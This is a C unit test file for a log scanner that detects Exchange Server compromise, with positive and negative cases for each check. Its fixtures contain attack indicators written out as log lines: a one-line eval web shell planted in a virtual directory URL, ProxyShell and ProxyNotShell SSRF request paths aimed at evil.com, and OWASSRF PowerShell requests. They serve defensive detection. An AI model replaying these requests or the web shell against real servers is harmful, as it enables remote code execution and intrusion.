/* ECP server, OABGenerator, IIS W3C and Rps_Http checks: each with a positive and a negative case. */
#include "logscan_test.h"

#define INST "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
#define ECPPATH INST "Logging\\ECP\\Server\\ECPServer20210303-1.LOG"
#define OABPATH INST "Logging\\OABGeneratorLog\\OABGen_20210303-1.LOG"
#define IISPATH "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log"
#define RPSPATH INST "Logging\\CmdletInfra\\Powershell-Proxy\\Http\\" \
    "Rps_Http_2021030306-1.log"

static struct exh_findings *
analyse_with(struct exh_logscan *ls, const char *path, const char *t)
{
	struct exh_findings *fs = NULL;
	struct exh_err err = { 0 };

	assert_int_equal(run_mem(ls, path, EXH_LOG_UNKNOWN, t, strlen(t), 0,
	    &fs, &err), EXH_OK);
	return fs;
}

static struct exh_findings *
analyse(const char *path, const char *t)
{
	struct exh_logscan *ls = new_ls();
	struct exh_findings *fs;

	exh_logscan_set_install_path(ls, INST);
	fs = analyse_with(ls, path, t);
	exh_logscan_destroy(ls);
	return fs;
}

/* ---- ECP server log ---------------------------------------------------- */

#define ECPHDR "#Software: Microsoft Exchange Server\n#Log-type: ECP " \
    "Server Log\n#Fields: TimeStamp,ServerName,EventId,EventData\n"

static void
ecp_set_oab_vdir_with_script_is_an_alert(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse(ECPPATH, ECPHDR
	    "2021-03-03T07:12:03.547Z,EXCH01,1,\"S:TIME=812;S:CMD=Set-Oab"
	    "VirtualDirectory.ExternalUrl=''http://f/<script language=\"\""
	    "JScript\"\" runat=\"\"server\"\">function Page_Load(){eval("
	    "Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity="
	    "''3a1b'';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema="
	    "OABVirtualDirectory\"\n");
	f = find_hit(fs, "CVE-2021-27065/ecp-set-vdir", 4);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_string_equal(field_of(f, "ServerName"), "EXCH01");
	/* The broad variant stays quiet when the precise one fired. */
	assert_int_equal(count_check(fs, "CVE-2021-27065/ecp-set-vdir-broad"),
	    0);
	exh_findings_destroy(fs);
}

static void
ecp_set_vdir_without_markup_is_only_a_notice(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse(ECPPATH, ECPHDR
	    "2021-03-03T07:12:03.547Z,EXCH01,1,S:CMD=Set-OwaVirtualDirectory."
	    "ExternalUrl='https://mail.contoso.com/owa';S:URL=/ecp/DDI/"
	    "DDIService.svc/SetObject?schema=OWAVirtualDirectory\n"
	    "2021-03-03T07:12:04.547Z,EXCH01,1,S:CMD=Get-OwaVirtualDirectory\n");
	assert_int_equal(count_check(fs, "CVE-2021-27065/ecp-set-vdir"), 0);
	f = find_hit(fs, "CVE-2021-27065/ecp-set-vdir-broad", 4);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_NOTICE);
	assert_int_equal(exh_findings_count(fs), 1);
	exh_findings_destroy(fs);
}

/* ---- OABGenerator (CVE-2021-26858) ------------------------------------- */

static void
oab_download_outside_clientaccess_oab_is_an_alert(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse(OABPATH,
	    "2021-03-03T08:15:02.123Z,44,Warning,OABFileHandler,Download failed"
	    " and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\shell."
	    "aspx' needs to be removed\n");
	f = find_hit(fs, "CVE-2021-26858/oab-download", 1);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_string_equal(field_of(f, "DownloadPath"),
	    "'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx'");
	assert_true(f->time != 0);
	exh_findings_destroy(fs);
}

static void
oab_download_inside_clientaccess_oab_is_not_flagged(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(OABPATH,
	    "2021-03-03T08:15:02.123Z,44,Warning,OABFileHandler,Download failed"
	    " and temporary file 'c:\\program files\\microsoft\\exchange server"
	    "\\v15\\ClientAccess\\OAB\\Temp\\a1.tmp' needs to be removed\n"
	    "2021-03-03T08:15:03.123Z,44,Info,OABGeneratorAssistant,Generating"
	    " OAB\n");
	assert_int_equal(exh_findings_count(fs), 0);
	exh_findings_destroy(fs);
}

static void
oab_check_follows_a_non_default_install_path(void **state)
{
	static const char line[] = "2021-03-03T08:15:02.123Z,44,Warning,x,"
	    "Download failed and temporary file 'C:\\Program Files\\Microsoft"
	    "\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a.tmp' needs to "
	    "be removed\n"
	    "2021-03-03T08:15:03.123Z,44,Warning,x,Download failed and "
	    "temporary file 'D:\\Exchange\\ClientAccess\\OAB\\Temp\\b.tmp' "
	    "needs to be removed\n";
	struct exh_logscan *ls = new_ls();
	struct exh_findings *fs;

	(void)state;
	/* No trailing backslash given: it is added. */
	exh_logscan_set_install_path(ls, "D:\\Exchange");
	fs = analyse_with(ls, "D:\\Exchange\\Logging\\OABGeneratorLog\\a.log",
	    line);
	assert_int_equal(count_check(fs, "CVE-2021-26858/oab-download"), 1);
	assert_non_null(find_hit(fs, "CVE-2021-26858/oab-download", 1));
	exh_findings_destroy(fs);
	exh_logscan_destroy(ls);
}

static void
oab_check_without_install_path_says_so(void **state)
{
	struct exh_logscan *ls = new_ls();
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse_with(ls, OABPATH, "Download failed and temporary file "
	    "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\s.aspx' needs "
	    "to be removed\nDownload failed and temporary file 'E:\\Ex\\"
	    "ClientAccess\\OAB\\Temp\\x.tmp' needs to be removed\n");
	assert_int_equal(count_check(fs, "CVE-2021-26858/oab-download"), 1);
	f = find_hit(fs, "CVE-2021-26858/oab-download", 1);
	assert_non_null(f);
	assert_int_equal(f->time, 0);
	assert_non_null(strstr(f->reasons[0].detail, "install path unknown"));
	exh_findings_destroy(fs);
	exh_logscan_destroy(ls);
}

/* ---- IIS W3C ------------------------------------------------------------ */

#define IISHDR "#Software: Microsoft Internet Information Services 10.0\n" \
    "#Version: 1.0\n#Date: 2021-03-03 05:00:00\n#Fields: date time s-ip " \
    "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip " \
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status " \
    "time-taken\n"
#define UA "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+" \
    "(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36"

static void
iis_post_to_static_resource_is_an_alert_and_get_is_not(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *f;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 POST /owa/auth/Current/themes/"
	    "resources/logon.css &CorrelationID=<empty>;&cafeReqId=1; 443 - "
	    "198.51.100.4 DuckDuckBot/1.0;+(+http://duckduckgo.com/"
	    "duckduckbot.html) - 200 0 0 31\n"
	    "2021-03-03 05:01:03 10.0.0.5 GET /owa/auth/Current/themes/"
	    "resources/logon.css &CorrelationID=<empty>; 443 - 10.1.1.1 " UA
	    " - 200 0 0 3\n");
	f = find_hit(fs, "ProxyLogon/iis-static-post", 5);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_string_equal(f->client_ip, "198.51.100.4");
	assert_string_equal(field_of(f, "cs-method"), "POST");
	/* '+' reads as a space in the user agent. */
	assert_string_equal(field_of(f, "cs(User-Agent)"),
	    "DuckDuckBot/1.0; ( http://duckduckgo.com/duckduckbot.html)");
	assert_int_equal(f->time, (int64_t)(1614747662LL * 10000000LL +
	    EXH_FILETIME_UNIX_EPOCH));
	assert_non_null(find_hit(fs, "ProxyLogon/iis-user-agent", 5));
	assert_int_equal(count_check(fs, "ProxyLogon/iis-static-post"), 1);
	assert_null(find_hit(fs, "ProxyLogon/iis-user-agent", 6));
	exh_findings_destroy(fs);
}

static void
iis_ecp_short_js_post_is_flagged_but_versioned_script_is_not(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 POST /ecp/y.js - 443 - 198.51.100.4 "
	    "python-requests/2.25.1 - 200 0 0 31\n"
	    "2021-03-03 05:01:02 10.0.0.5 GET /ecp/15.1.2176/scripts/common.js"
	    " - 443 - 10.1.1.1 " UA " - 200 0 0 3\n"
	    "2021-03-03 05:01:02 10.0.0.5 POST /ecp/abcd.js - 443 - 10.1.1.1 "
	    UA " - 200 0 0 3\n");
	assert_non_null(find_hit(fs, "ProxyLogon/iis-static-post", 5));
	assert_non_null(find_hit(fs, "ProxyLogon/iis-user-agent", 5));
	assert_null(find_hit(fs, "ProxyLogon/iis-static-post", 6));
	assert_null(find_hit(fs, "ProxyLogon/iis-uri", 6));
	/* Four characters: outside the 1-3 rule, inside Sentinel's. */
	assert_null(find_hit(fs, "ProxyLogon/iis-static-post", 7));
	assert_non_null(find_hit(fs, "ProxyLogon/iis-uri", 7));
	exh_findings_destroy(fs);
}

static void
iis_proxyshell_success_is_an_alert_and_401_only_an_attempt(void **state)
{
	struct exh_findings *fs;
	const struct exh_finding *ok, *att;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-08-10 05:01:02 10.0.0.5 GET /autodiscover/autodiscover.json "
	    "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil"
	    ".com 443 - 198.51.100.6 python-requests/2.25.1 - 200 0 0 31\n"
	    "2021-08-10 05:01:03 10.0.0.5 GET /autodiscover/autodiscover.json "
	    "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil"
	    ".com 443 - 198.51.100.9 python-requests/2.25.1 - 401 0 0 31\n"
	    "2021-08-10 05:01:04 10.0.0.5 GET /autodiscover/autodiscover.json"
	    "/v1.0/u@contoso.com Protocol=ActiveSync&RedirectCount=1 443 - "
	    "10.1.1.1 " UA " - 200 0 0 3\n");
	ok = find_hit(fs, "ProxyShell/autodiscover", 5);
	att = find_hit(fs, "ProxyShell/autodiscover", 6);
	assert_non_null(ok);
	assert_non_null(att);
	assert_int_equal(ok->level, EXH_LEVEL_ALERT);
	assert_true(att->score < 60);
	assert_int_equal(att->level, EXH_LEVEL_NOTICE);
	assert_non_null(strstr(att->reasons[0].detail, "attempt"));
	assert_null(find_hit(fs, "ProxyShell/autodiscover", 7));
	exh_findings_destroy(fs);
}

static void
iis_proxynotshell_needs_200_and_skips_the_nessus_probe(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2022-10-01 05:01:02 10.0.0.5 POST /autodiscover/autodiscover.json "
	    "@evil.com/PowerShell?serializationLevel=Full&Email=autodiscover/"
	    "autodiscover.json%3F@evil.com 443 CONTOSO\\u 198.51.100.7 x - 200 "
	    "0 0 31\n"
	    "2022-10-01 05:01:03 10.0.0.5 POST /autodiscover/autodiscover.json "
	    "@evil.com/PowerShell?x=1 443 - 198.51.100.7 x - 404 0 0 31\n"
	    "2022-10-01 05:01:04 10.0.0.5 GET /autodiscover/autodiscover.json "
	    "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com"
	    "&Powershell=1 443 - 198.51.100.9 Nessus - 200 0 0 3\n");
	assert_non_null(find_hit(fs, "ProxyNotShell/autodiscover", 5));
	assert_null(find_hit(fs, "ProxyNotShell/autodiscover", 6));
	assert_null(find_hit(fs, "ProxyNotShell/autodiscover", 7));
	exh_findings_destroy(fs);
}

static void
iis_owassrf_post_200_is_an_alert_and_plain_owa_is_not(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2022-12-01 05:01:02 10.0.0.5 POST /owa/mastermailbox%40outlook.com"
	    "/powershell - 443 CONTOSO\\u 198.51.100.8 x - 200 0 0 31\n"
	    "2022-12-01 05:01:03 10.0.0.5 POST /owa/service.svc action=GetItem "
	    "443 CONTOSO\\u 10.1.1.1 " UA " - 200 0 0 31\n"
	    "2022-12-01 05:01:04 10.0.0.5 POST /owa/a@b.com/powershell - 443 "
	    "- 198.51.100.8 x - 401 0 0 31\n");
	assert_int_equal(find_hit(fs, "OWASSRF/owa-powershell", 5)->level,
	    EXH_LEVEL_ALERT);
	assert_null(find_hit(fs, "OWASSRF/owa-powershell", 6));
	assert_true(find_hit(fs, "OWASSRF/owa-powershell", 7)->score < 80);
	exh_findings_destroy(fs);
}

static void
iis_request_for_a_flagged_file_is_cross_referenced(void **state)
{
	struct exh_logscan *ls = new_ls();
	struct exh_findings *fs;
	struct exh_err err = { 0 };
	const struct exh_finding *f;

	(void)state;
	assert_int_equal(exh_logscan_add_flagged_url(ls,
	    "/owa/auth/Evil Shell.aspx", "F0007", &err), EXH_OK);
	assert_int_equal(exh_logscan_add_flagged_url(ls, "", "F1", &err),
	    EXH_EUSAGE);
	fs = analyse_with(ls, IISPATH, IISHDR
	    "2021-03-04 05:01:02 10.0.0.5 GET /OWA/auth/evil%20shell.aspx - 443"
	    " - 67.205.176.9 x - 200 0 0 31\n"
	    "2021-03-04 05:01:03 10.0.0.5 GET /owa/auth/logon.aspx - 443 - "
	    "10.1.1.1 " UA " - 200 0 0 3\n");
	f = find_hit(fs, "iis/flagged-file-request", 5);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_non_null(strstr(f->reasons[0].detail, "F0007"));
	assert_non_null(find_hit(fs, "iis/attacker-ip", 5));
	assert_null(find_hit(fs, "iis/flagged-file-request", 6));
	assert_null(find_hit(fs, "iis/attacker-ip", 6));
	exh_findings_destroy(fs);
	exh_logscan_destroy(ls);
}

static void
iis_ddi_reset_by_machine_account_scores_higher(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(IISPATH, IISHDR
	    "2021-03-03 05:01:02 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject"
	    " schema=ResetOABVirtualDirectory&msExchEcpCanary=x 444 CONTOSO\\"
	    "EXCH01$ 10.0.0.5 x - 200 0 0 31\n"
	    "2021-03-03 05:01:03 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject"
	    " schema=ResetOABVirtualDirectory 444 CONTOSO\\admin 10.0.0.6 x - "
	    "200 0 0 31\n"
	    "2021-03-03 05:01:04 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject"
	    " schema=OABVirtualDirectory 444 CONTOSO\\admin 10.0.0.6 x - "
	    "200 0 0 31\n");
	assert_int_equal(find_hit(fs, "CVE-2021-27065/iis-ddi-reset",
	    5)->level, EXH_LEVEL_ALERT);
	assert_int_equal(find_hit(fs, "CVE-2021-27065/iis-ddi-reset",
	    6)->level, EXH_LEVEL_WARNING);
	assert_null(find_hit(fs, "CVE-2021-27065/iis-ddi-reset", 7));
	exh_findings_destroy(fs);
}

/* ---- Rps_Http ----------------------------------------------------------- */

static void
rps_unusual_client_info_is_a_notice_and_winrm_is_not(void **state)
{
	struct exh_findings *fs;

	(void)state;
	fs = analyse(RPSPATH, "#Fields: DateTime,UrlStem,AuthenticatedUser,"
	    "ClientIpAddress,HttpStatus,ClientInfo\n"
	    "2022-10-01T05:00:00.000Z,/powershell,CONTOSO\\a,10.0.0.2,200,"
	    "Microsoft WinRM Client\n"
	    "2022-10-01T05:00:01.000Z,/powershell,CONTOSO\\a,10.0.0.2,200,"
	    "Exchange BackEnd Probes\n"
	    "2022-10-01T05:00:02.000Z,/powershell,CONTOSO\\a,10.0.0.2,200,\n"
	    "2022-10-01T05:00:03.000Z,/powershell,CONTOSO\\u,198.51.100.7,200,"
	    "python-requests/2.28.1\n");
	assert_int_equal(exh_findings_count(fs), 1);
	assert_int_equal(find_hit(fs, "rps-http/client-info", 5)->level,
	    EXH_LEVEL_NOTICE);
	exh_findings_destroy(fs);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(ecp_set_oab_vdir_with_script_is_an_alert),
		cmocka_unit_test(ecp_set_vdir_without_markup_is_only_a_notice),
		cmocka_unit_test(oab_download_outside_clientaccess_oab_is_an_alert),
		cmocka_unit_test(oab_download_inside_clientaccess_oab_is_not_flagged),
		cmocka_unit_test(oab_check_follows_a_non_default_install_path),
		cmocka_unit_test(oab_check_without_install_path_says_so),
		cmocka_unit_test(iis_post_to_static_resource_is_an_alert_and_get_is_not),
		cmocka_unit_test(iis_ecp_short_js_post_is_flagged_but_versioned_script_is_not),
		cmocka_unit_test(iis_proxyshell_success_is_an_alert_and_401_only_an_attempt),
		cmocka_unit_test(iis_proxynotshell_needs_200_and_skips_the_nessus_probe),
		cmocka_unit_test(iis_owassrf_post_200_is_an_alert_and_plain_owa_is_not),
		cmocka_unit_test(iis_request_for_a_flagged_file_is_cross_referenced),
		cmocka_unit_test(iis_ddi_reset_by_machine_account_scores_higher),
		cmocka_unit_test(rps_unusual_client_info_is_a_notice_and_winrm_is_not),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
